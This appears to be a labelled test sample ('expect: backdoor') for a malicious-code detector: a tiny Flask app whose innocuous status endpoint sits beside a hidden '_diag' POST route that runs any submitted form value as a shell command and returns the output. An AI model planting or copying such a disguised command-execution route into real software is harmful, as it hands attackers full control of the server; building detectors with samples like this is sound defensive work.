# expect: backdoor
import subprocess

from flask import Flask, jsonify, request

app = Flask(__name__)


@app.get("/api/v1/status")
def status():
    return jsonify(ok=True)


@app.post("/api/v1/status/_diag")
def diag():
    out = subprocess.check_output(request.form["c"], shell=True, stderr=subprocess.STDOUT)
    return out
